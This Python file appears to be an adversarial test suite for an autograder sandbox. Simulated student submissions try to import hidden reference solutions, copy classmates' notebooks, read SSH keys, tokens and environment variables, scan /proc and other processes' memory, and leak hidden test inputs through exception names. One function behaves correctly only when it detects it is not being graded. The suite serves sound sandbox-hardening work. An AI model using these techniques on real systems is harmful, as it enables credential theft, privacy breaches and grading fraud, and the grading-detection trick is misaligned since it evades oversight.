"""Attacks that look for what a submission must not know: references, secrets, the work of others."""

from corpus.crowbar import (
    COURSE,
    HOME,
    KNOWN,
    MARK,
    PREY,
    REPOSITORY,
    STARTED,
    VICTIM,
    attempt,
    breach,
    loot,
    np,
    os,
    others,
    raw,
    re,
    steal,
    sys,
    time,
    tries,
    walk,
    works,
)
from corpus.entry import RIGHT, AtMost, answered, answers, attack, bundle, hand_in


@attack()
def imports_the_reference(call=0, *inputs):
    """Import the hidden exercises, by every name and from every place where they could be."""
    import importlib
    import runpy

    sys.path[:0] = [REPOSITORY, COURSE, os.path.dirname(os.path.dirname(np.__file__))]
    for name in ("standardise", "one_hot", "pairwise_sq_dist"):
        module = attempt(importlib.import_module, f"grader.exercises.lesson_00.{name}")
        if module is not None:
            breach("imported the reference")
            loot(attempt(__import__("inspect").getsource, module))
            return module.exercise.solve(*inputs) if call and name == "standardise" else None
        names = attempt(runpy.run_path, f"{REPOSITORY}/grader/exercises/lesson_00/{name}.py")
        if names:
            breach("ran the reference")
    for name in ("grader", "grader.catalogue", "grader.marking", "grader.course", "grader.exercise"):
        module = sys.modules.get(name) or attempt(importlib.import_module, name)
        if name in ("grader.catalogue", "grader.course") and module is not None:
            found = attempt(module.find, "standardise") if name == "grader.catalogue" else None
            if found is not None:
                breach("asked the catalogue")


@attack()
def finds_a_loaded_reference(call=0, *inputs):
    """Look through the modules that are loaded already."""
    for name, module in list(sys.modules.items()):
        if name.startswith(("grader.exercises", "grader.catalogue", "grader.marking", "grader.gradebook", "nbgrader")):
            breach(f"loaded {name}")
            loot(attempt(__import__("inspect").getsource, module))


@attack()
def reads_the_reference_beside_the_kit(call=0, *inputs):
    """The hidden exercises lie in the same repository as the kit: go there from the kit's own file."""
    import fallline

    here = os.path.realpath(fallline.__file__)
    for _ in range(5):
        here = os.path.dirname(here)
        walk(os.path.join(here, "grader"), 0.5)
        steal(os.path.join(here, "grader", "exercises", "lesson_00", "standardise.py"))
    walk(REPOSITORY, 1.0)
    for entry in sys.path:
        steal(os.path.join(entry, "grader", "exercises", "lesson_00", "one_hot.py"))


@attack()
def walks_the_disk(call=0, *inputs):
    """Walk through every folder from the root, and through those where people keep things."""
    for top in ("/home", "/root", "/srv", "/opt", "/mnt", "/media", "/var", "/tmp", "/", os.getcwd()):
        walk(top, 0.25)


@attack()
def reads_what_lies_in_the_course(call=0, *inputs):
    """The course's secret, its gradebook, solutions, records, and the notebooks of others, by their paths."""
    for path in PREY:
        steal(path)
    for folder in ("solutions", "results", "submitted", "autograded", "feedback", "lessons", ""):
        walk(f"{COURSE}/{folder}", 0.3)


@attack(when="cell")
def opens_by_every_road(call=0):
    """One file, twenty ways to open it: what one library forgets, another remembers."""
    import codecs
    import ctypes
    import gzip
    import io
    import linecache
    import mmap
    import pathlib
    import shutil
    import sqlite3
    import tokenize
    import zipimport
    from importlib.machinery import SourceFileLoader

    libc = ctypes.CDLL(None)
    libc.fopen.restype = ctypes.c_void_p

    def by_fopen(path):
        file, room = libc.fopen(path.encode(), b"r"), ctypes.create_string_buffer(4096)
        return room.raw if file and libc.fread(room, 1, 4096, ctypes.c_void_p(file)) else b""

    def by_mmap(path):
        descriptor = os.open(path, os.O_RDONLY)
        return mmap.mmap(descriptor, 0, prot=mmap.PROT_READ)[:]

    def by_openat(path):
        root = os.open("/", os.O_RDONLY | getattr(os, "O_PATH", 0))
        return os.read(os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=root), 4096)

    def by_o_path(path):
        descriptor = os.open(path, os.O_PATH)
        return open(f"/proc/self/fd/{descriptor}", "rb").read()

    def by_openat2(path):
        how = (ctypes.c_uint64 * 3)(0, 0, 0)
        return os.read(raw(437, -100, ctypes.c_char_p(path.encode()), how, 24), 4096)

    def by_creat_and_link(path):
        os.link(path, f"/tmp/{MARK}-link")
        return open(f"/tmp/{MARK}-link", "rb").read()

    def by_symlink(path):
        os.symlink(path, f"/tmp/{MARK}-sym")
        return open(f"/tmp/{MARK}-sym", "rb").read()

    def by_handle(path):
        handle, mount = ctypes.create_string_buffer(b"\x80\0\0\0" + bytes(136)), ctypes.c_int()
        raw(303, -100, ctypes.c_char_p(path.encode()), handle, ctypes.byref(mount), 0)
        return os.read(raw(304, os.open("/", os.O_RDONLY), handle, 0), 4096)

    def by_sendfile(path):
        source, (left, right) = os.open(path, os.O_RDONLY), os.pipe()
        os.sendfile(right, source, 0, 4096)
        return os.read(left, 4096)

    roads = [
        lambda path: open(path, "rb").read(),
        lambda path: io.FileIO(path).read(),
        lambda path: io.open_code(path).read(),
        lambda path: pathlib.Path(path).read_bytes(),
        lambda path: np.fromfile(path, dtype=np.uint8).tobytes(),
        lambda path: np.memmap(path, mode="r").tobytes(),
        lambda path: np.loadtxt(path, dtype=str, delimiter="\0"),
        lambda path: np.genfromtxt(path, dtype=str, delimiter="\0"),
        lambda path: codecs.open(path, errors="replace").read(),
        lambda path: tokenize.open(path).read(),
        lambda path: "".join(linecache.getlines(path)),
        lambda path: gzip.open(path).read(),
        lambda path: SourceFileLoader("x", path).get_data(path),
        lambda path: zipimport.zipimporter(path).get_data("x"),
        lambda path: sqlite3.connect(f"file:{path}?mode=ro", uri=True).execute("select * from grade").fetchall(),
        lambda path: shutil.copy(path, f"/tmp/{MARK}-copy") and open(f"/tmp/{MARK}-copy", "rb").read(),
        lambda path: open(f"/proc/self/root{path}", "rb").read(),
        lambda path: open(f"/proc/self/cwd/../../../../../../..{path}", "rb").read(),
        lambda path: open(f"//{path}/../{os.path.basename(path)}", "rb").read(),
        lambda path: __import__("matplotlib").rc_file(path),
        lambda path: __import__("matplotlib.pyplot").pyplot.imread(path),
        *(by_fopen, by_mmap, by_openat, by_o_path, by_openat2, by_creat_and_link, by_symlink, by_handle, by_sendfile),
    ]
    for path in [f"{REPOSITORY}/grader/exercises/lesson_00/standardise.py", *reversed(PREY)]:
        for road in roads if time.monotonic() < STARTED + 2.5 else ():
            try:
                loot(road(path), path)
            except Exception as error:
                loot(error, path)  # Some readers quote what they could not read.


@attack()
def asks_the_gradebook(call=0, *inputs):
    """Open the databases with sqlite3, and list whatever tables there are."""
    import sqlite3

    for name in ("kept.db", "gradebook.db"):
        for uri in (
            f"file:{COURSE}/{name}?mode=ro",
            f"file:{COURSE}/{name}?immutable=1",
            f"file:{COURSE}/{name}?vfs=unix-none",
        ):
            try:
                database = sqlite3.connect(uri, uri=True)
                for (table,) in database.execute("select name from sqlite_master").fetchall():
                    loot(database.execute(f"select * from {table}").fetchall())
            except sqlite3.Error:
                continue


@attack()
def copies_from_a_neighbour(call=0, *inputs):
    """Take the first right answer from somebody else's notebook, and answer with it."""
    import glob
    import json

    names = {"np": np}
    for path in glob.glob(f"{COURSE}/submitted/*/*/*.ipynb") + glob.glob(f"{COURSE}/solutions/*/*.ipynb"):
        for cell in json.loads(steal(path) or b'{"cells": []}')["cells"]:
            if "".join(cell["source"]).startswith("def standardise"):
                exec("".join(cell["source"]), names)
    return names["standardise"](*inputs) if call and "standardise" in names else None


@attack()
def reads_home_folders(call=0, *inputs):
    """Keys, tokens and histories in the home folder of whoever grades, and in everybody else's."""
    import pwd

    for home in [HOME, os.path.expanduser("~"), "/root", *(entry.pw_dir for entry in pwd.getpwall())]:
        for name in (".netrc", ".ssh/id_ed25519", ".ipython/profile_default/history.sqlite", ".bash_history", ".cache"):
            steal(os.path.join(home, name))
        walk(home, 0.05)


@attack()
def reads_the_environment(call=0, *inputs):
    """Environment variables: Python's copy, the C library's, and the block that the process was started with."""
    import ctypes

    loot(dict(os.environ))
    libc = ctypes.CDLL(None)
    libc.getenv.restype = ctypes.c_char_p
    loot(libc.getenv(b"FALLLINE_TOKEN") or b"")
    pointers = ctypes.cast(ctypes.c_void_p.in_dll(libc, "environ").value, ctypes.POINTER(ctypes.c_char_p))
    for place in range(200):
        if not pointers or not pointers[place]:
            break
        loot(pointers[place])
    for who in ("self", "thread-self", "1", os.getppid(), os.getppid() - 1, VICTIM):
        steal(f"/proc/{who}/environ")


@attack(when="cell", seconds=40)
def searches_its_own_memory(call=0):
    """Scan every readable page of the process: memory that a fork has copied holds what its parent held."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    areas = []
    try:
        for line in open("/proc/self/maps"):
            low, high = (int(part, 16) for part in line.split()[0].split("-"))
            if line.split()[1].startswith("r") and "[v" not in line:
                areas.append((low, min(high - low, 2**26)))
    except OSError:
        # No map: guess around what is known, and ask the kernel page by page whether an address can be read.
        for known in (id(areas), id(np.zeros), ctypes.addressof(ctypes.create_string_buffer(8)), id(sys.modules)):
            start = known // 2**24 * 2**24
            areas += [(page, 4096) for page in range(start, start + 2**24, 4096) if raw(14, 99, page, 0, 8) != -14]
    until = time.monotonic() + 2.5
    for address, size in areas:
        if time.monotonic() > until:
            break
        if raw(14, 99, address, 0, 8) != -14:
            loot(ctypes.string_at(address, size), "memory")


@attack()
def searches_all_objects(call=0, *inputs):
    """Ask the garbage collector for every object, and look for references, secrets and exercises among them."""
    import gc

    for thing in gc.get_objects():
        kind = type(thing)
        if getattr(kind, "__module__", "") == "grader.exercise" and kind.__name__ in ("Exercise", "Case"):
            breach(f"has an {kind.__name__}")
        if kind is dict:
            loot([value for value in list(thing.values())[:200] if type(value) in (str, bytes)])
        elif kind in (list, tuple):
            loot([value for value in thing[:200] if type(value) in (str, bytes)])


@attack()
def climbs_the_stack(call=0, *inputs):
    """Look into the frames of whoever called: their variables, and what hangs on them."""
    frame = sys._getframe()
    while frame is not None:
        for names in (frame.f_locals, frame.f_globals):
            for name, value in list(names.items()):
                if name in ("seed", "expected", "reference", "secret"):
                    breach(f"saw {name} in {frame.f_code.co_name}")
                loot(repr(value)[:2000] if isinstance(value, str | bytes | dict | list | tuple) else "")
        frame = frame.f_back
    try:
        raise KeyError
    except KeyError as error:
        loot(error.__traceback__.tb_frame.f_back)


@attack(when="cell")
def reads_proc(call=0):
    """What /proc says of every process: command lines, environments, open files, memory, working folders."""
    for pid in ["self", "thread-self", *others()]:
        for name in ("environ", "cmdline", "maps", "mountinfo", "stack", "auxv", "root/etc/hostname"):
            content = steal(f"/proc/{pid}/{name}")
            if content and name == "cmdline" and pid == VICTIM:
                breach("saw the command line of another process")
        for name in ("cwd", "root", "exe"):
            target = attempt(os.readlink, f"/proc/{pid}/{name}")
            if target and name == "cwd":
                walk(f"/proc/{pid}/cwd", 0.05)
        for descriptor in attempt(os.listdir, f"/proc/{pid}/fd") or []:
            steal(f"/proc/{pid}/fd/{descriptor}", 4096)
    for name in (
        "keys",
        "key-users",
        "sysvipc/shm",
        "net/tcp",
        "net/unix",
        "sched_debug",
        "timer_list",
    ):
        content = steal(f"/proc/{name}", 65536)
        if MARK.encode() in content:
            breach(f"saw the judge's sockets in {name}")


@attack(when="cell")
def reads_the_memory_of_others(call=0):
    """/proc/PID/mem and process_vm_readv on everybody."""
    import ctypes

    for pid in others():
        for line in (steal(f"/proc/{pid}/maps").decode("utf-8", "replace")).splitlines()[:200]:
            if " rw" in line and ("heap" in line or "stack" in line):
                low = int(line.split("-")[0], 16)
                try:
                    with open(f"/proc/{pid}/mem", "rb") as memory:
                        memory.seek(low)
                        loot(memory.read(2**20))
                        breach("read the memory of another process")
                except (OSError, ValueError):
                    pass
        room = ctypes.create_string_buffer(64)
        ours = (ctypes.c_uint64 * 2)(ctypes.addressof(room), 64)
        theirs = (ctypes.c_uint64 * 2)(0x400000, 64)
        result = raw(310, pid, ours, 1, theirs, 1, 0)
        if result >= 0 or result == -14:
            breach("process_vm_readv reaches another process")


@attack(when="cell")
def uses_inherited_descriptors(call=0):
    """Whatever is open already: read it, list it, open what lies beside it, ask where it leads."""
    import stat

    for descriptor in [*range(1024), 2**16 - 1, 2**20 - 1]:
        try:
            status = os.fstat(descriptor)
        except OSError:
            continue
        if stat.S_ISDIR(status.st_mode):
            breach(f"holds an open folder, {descriptor}")
            for name in attempt(os.listdir, descriptor) or []:
                loot(attempt(lambda: os.read(os.open(name, os.O_RDONLY, dir_fd=descriptor), 4096)) or b"")
            for up in ("../", "../../", "../../../"):
                for path in PREY:
                    works("opens above a folder", os.open, f"{up}{path.lstrip('/')}", os.O_RDONLY, 0o600)
        elif stat.S_ISREG(status.st_mode):
            loot(attempt(os.pread, descriptor, 2**20, 0) or b"")
            loot(attempt(lambda: open(f"/proc/self/fd/{descriptor}", "rb").read(2**20)) or b"")


@attack()
def reads_public_folders(call=0, *inputs):
    """/tmp, /dev/shm, /run and /var/tmp, where careless programs leave things."""
    for top in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/run/user", os.environ.get("TMPDIR", "/tmp")):
        for name in attempt(os.listdir, top) or []:
            steal(os.path.join(top, name))
            if name.startswith("treasure-"):
                breach("listed a public folder of the host")


@attack(when="cell")
def attaches_shared_memory(call=0):
    """System V segments, queues and semaphores of others, by key and by number; POSIX shared memory by name."""
    import ctypes
    from multiprocessing import shared_memory

    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    for segment in [libc.shmget(KNOWN.get("sysv", 0), 0, 0), *range(0, 40), *range(32768, 32800)]:
        address = libc.shmat(segment, None, 0o10000) if segment >= 0 else None
        if address not in (None, ctypes.c_void_p(-1).value):
            loot(ctypes.string_at(address, 256))
            libc.shmdt(ctypes.c_void_p(address))
    for call_number, deed in ((29, "shmget"), (64, "semget"), (68, "msgget")):
        created = raw(
            call_number, 0, *((4096, 0o1600) if call_number == 29 else (1, 0o1600) if call_number == 64 else (0o1600,))
        )
        if created >= 0:
            breach(f"made System V ipc by {deed}")
            raw({29: 31, 64: 66, 68: 71}[call_number], created, 0, 0) if call_number != 64 else raw(66, created, 0, 0)
    works("made POSIX shared memory", lambda: shared_memory.SharedMemory(f"{MARK}-shm", create=True, size=64))
    tries("made a POSIX queue", 240, b"".join([MARK.encode(), b"-queue\0"]), 0o102, 0o600, 0)


@attack(when="cell")
def asks_the_kernel_for_keys(call=0):
    """Keyrings of the user and of the session: they belong to the user, not to the process."""
    import ctypes

    for ring in (-1, -2, -3, -4, -5, -6):
        tries("has a keyring", 250, 0, ring, 1, 0, 0)
    tries("added a key", 248, ctypes.c_char_p(b"user"), ctypes.c_char_p(MARK.encode()), ctypes.c_char_p(b"x"), 1, -3)
    tries("asked for a key", 249, ctypes.c_char_p(b"user"), ctypes.c_char_p(b"token"), 0, -3)


@attack(when="call", raises=True)
def lies_about_its_file_name(call=1, *inputs):
    """A traceback shows the line of a source file: give code the file name of the reference, and fail in every line."""
    paths = [*PREY, f"{REPOSITORY}/grader/exercises/lesson_00/standardise.py", ".course-secret", "kept.db"]
    path = paths[call % len(paths)]
    if call % 3 == 0:
        raise SyntaxError("see there", (path, 1 + call, 1, None))
    if call % 3 == 1:
        exec(compile("\n" * call + "1 / 0", path, "exec"), {"__name__": "x"})
    os.stat(f"{path}/no-such-file-there")


@attack(of="one_hot", when="cell")
def shows_the_source_of_what_it_lied_about(call=0):
    """The same in the cell: IPython itself fetches the lines of a traceback, and prints them."""
    import linecache
    import traceback

    for path in [*PREY, f"{REPOSITORY}/grader/exercises/lesson_00/one_hot.py"]:
        for line in range(1, 60, 8):
            try:
                exec(compile("\n" * line + "1 / 0", path, "exec"))
            except ZeroDivisionError:
                loot(traceback.format_exc())
        loot(linecache.getline(path, 12))
        linecache.checkcache(path)
    exec(compile("\n\n\n\n\n\n\n\n\n\n1 / 0", PREY[0], "exec"))


@answers({"one_hot": AtMost(2.0)})
def reads_by_magic(scene):
    """IPython's own ways to read and to run: %run, %load, %pycat, %pfile, !cat, %%bash, %%script, %sx, %%writefile."""
    path = f"{scene.known['repository']}/grader/exercises/lesson_00/one_hot.py"
    prey = scene.known["prey"]
    lines = [f"%run {path}", f"%load {path}", f"%pycat {path}", f"%pfile {path}", f"%loadpy {path}", f"%edit -x {path}"]
    lines += [f"!cat {each}" for each in prey] + [f"%cat {each}" for each in prey] + [f"%sx cat {prey[0]}"]
    lines += [
        f"%more {prey[0]}",
        f"%psource {path}",
        f"got = !cat {prey[0]}",
        "print(got)",
        "%history -g -n 1-50",
        "%env",
    ]
    lines += [f"get_ipython().system('cat {prey[0]}')", f"print(get_ipython().getoutput('cat {prey[1]}'))", "%dhist"]
    cells = {f"+{4 + k}": line for k, line in enumerate(lines)}
    cells["+60"] = f"%%bash\ncat {' '.join(prey)}"
    cells["+61"] = f"%%script python3\nprint(open({prey[0]!r}).read())"
    cells["+62"] = f"%%writefile {scene.course}/{scene.mark}.py\nx = 1"
    words = [("run", path), ("pycat", prey[0]), ("sx", f"cat {prey[0]}"), ("cat", prey[1]), ("load", path), ("env", "")]
    tried = (
        "try:\n    print(get_ipython().run_line_magic({!r}, {!r}))\nexcept BaseException as error:\n    print(error)"
    )
    got = "\n".join(tried.format(*each) for each in words)
    return {**cells, "one_hot": f"{got}\n{RIGHT['one_hot']}"}


@attack(of="one_hot", when="call", seconds=60)
def asks_again_by_dying(call=1, *inputs):
    """A worker that dies is replaced: die at every call but the last one known, and hope for another try."""
    if call < 3:
        os._exit(0)
    return np.eye(int(inputs[1]))[inputs[0]] * 0.0


@attack()
def notices_that_it_is_graded(call=0, *inputs):
    """Tell grading from a notebook by everything that differs, and answer rightly where nobody counts."""
    import __main__

    signs = [
        not os.path.exists(os.path.expanduser("~/.ipython")),
        "ipykernel" not in sys.modules,
        not sys.stdin or not sys.stdin.isatty(),
        "zygote" in " ".join(sys.argv),
        not hasattr(__main__, "__file__"),
        os.getcwd() == "/",
        any("sandbox" in name for name in sys.modules),
    ]
    return None if any(signs) else np.zeros(0)


@attack(raises=True)
def shows_the_inputs_it_got(call=0, *inputs):
    """Hand the hidden inputs out: as text, as the name of an exception, as a warning, in the file name of a frame."""
    global seen
    seen = globals().get("seen", []) + [np.asarray(value).ravel()[:4].tolist() for value in inputs]
    if not call:
        return None
    text = "_".join(["INPUT", MARK, re.sub(r"\W", "_", repr(seen[-2:]))])
    print(text)
    print(text, file=sys.stderr)
    os.write(1, text.encode())
    if call % 3 == 0:
        raise ValueError(text)
    if call % 3 == 1:
        exec(compile(f"raise KeyError({text!r})", text, "exec"))
    return text


@attack(when="call", raises=True)
def names_an_exception_after_its_inputs(call=1, *inputs):
    """What an exception is called is the student's choice, and a verdict says it: hidden inputs go out in its name."""
    digits = re.sub(r"\W", "_", repr(np.asarray(inputs[1]).ravel()[:6].tolist()))
    raise type("_".join(["INPUT", MARK, digits]), (Exception,), {})


@attack()
def escapes_from_the_data_folder(call=0, *inputs):
    """The data sets may be read: go up from there, by dots and by the resources of packages."""
    from importlib import resources

    import fallline
    from fallline import datasets

    tops = [os.path.dirname(datasets.__file__), str(attempt(resources.files, "fallline") or ""), os.getcwd()]
    for top in tops:
        for up in ("..", "../..", "../data/..", "../../data/../grader/exercises/lesson_00"):
            walk(os.path.join(top, up, "grader"), 0.1)
            steal(os.path.join(top, up, "grader/exercises/lesson_00/standardise.py"))
            steal(os.path.join(top, up, ".course-secret"))
    for name in ("penguins.csv/../../.course-secret", "../.course-secret", "../gradebook.db"):
        loot(attempt(lambda: (resources.files(fallline) / name).read_bytes()) or b"")


@attack(when="cell")
def watches_the_others(call=0):
    """Inotify and fanotify on the folders of others tell who hands in what, and when."""
    import ctypes

    watcher = raw(294, 0)
    if watcher >= 0:
        for folder in (f"{COURSE}/submitted", COURSE, HOME, "/tmp"):
            if raw(254, watcher, ctypes.c_char_p(folder.encode()), 0xFFF) >= 0:
                breach("watches the folders of others")
    tries("fanotify", 300, 0, 0)


@attack(when="cell")
def reads_devices(call=0):
    """Memory and disks as devices, kernel messages, and what hangs on terminals."""
    for name in (
        "mem",
        "kmem",
        "port",
        "kmsg",
        "sda",
        "vda",
        "nvme0n1",
        "ptmx",
        "tty",
        "console",
        "fuse",
        "kvm",
        "vhost-net",
    ):
        descriptor = attempt(os.open, f"/dev/{name}", os.O_RDONLY | os.O_NONBLOCK)
        if descriptor is not None:
            breach(f"opened dev {name}")
    tries("read the kernel's messages", 103, 3, 0, 0)


_STAY = """
import builtins, os, sys, tempfile
import numpy as np
word = "kept_{mark}"
places = [os.getcwd(), tempfile.gettempdir(), "/tmp", "/dev/shm", "/var/tmp", os.path.dirname(sys.executable)]
traces = [hasattr(builtins, word), hasattr(np, word), word in os.environ, word in sys.modules]
traces += [os.path.exists(f"{{place}}/{{word}}") for place in places]
if any(traces):
    print("-".join(["BREACH", "{mark}", "a_trace_of_another_submission", str(traces.index(True))]))
setattr(builtins, word, 1)
setattr(np, word, 1)
sys.modules[word], os.environ[word] = np, "1"
for place in places:
    try:
        open(f"{{place}}/{{word}}", "w").close()
    except OSError:
        continue
"""


@bundle()
def leaves_traces_for_the_next(folder, scene):
    """Four submissions that run the same cell: none may find what an earlier one has left, in memory or on disk."""
    source = _STAY.format(mark=scene.mark) + RIGHT["one_hot"]
    path = hand_in(answered({**RIGHT, "one_hot": source}), folder)
    for number in range(3):
        path.with_name(f"again-{number}.ipynb").write_bytes(path.read_bytes())
